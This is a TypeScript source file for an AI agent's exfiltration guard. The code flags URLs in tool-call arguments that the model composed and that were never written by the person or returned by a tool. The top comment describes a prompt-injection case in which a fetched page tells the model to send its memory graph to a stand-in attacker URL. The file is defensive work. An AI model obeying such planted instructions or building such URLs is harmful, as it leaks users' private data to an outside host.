/**
 * Pure. The exfiltration guard (EXFILTRATION_GUARD): a read-only tool that reaches the web is still
 * a way out. A page can tell the model to read the memory graph and fetch
 * `https://attacker/collect?d=<graph>`; such a URL is composed by the model, so it appears nowhere
 * the person or a tool put it. Following a link of a fetched page, or fetching what the person
 * named, uses a URL that is already in the thread verbatim, and is never held back.
 */

const URL_IN_TEXT = /https?:\/\/[^\s"'<>`]+/gi;

function stringsOf(value: unknown, out: string[] = []): string[] {
	if (typeof value === 'string') out.push(value);
	else if (Array.isArray(value)) for (const v of value) stringsOf(v, out);
	else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsOf(v, out);
	return out;
}

/**
 * The URLs in a call's arguments (at any depth) that none of `known` holds verbatim. `known` is
 * what the person wrote and what tools returned earlier in the thread.
 */
export function composedUrls(args: Record<string, unknown>, known: readonly string[]): string[] {
	const urls = stringsOf(args).flatMap((s) => s.match(URL_IN_TEXT) ?? []);
	return [...new Set(urls)].filter((url) => !known.some((text) => text.includes(url)));
}
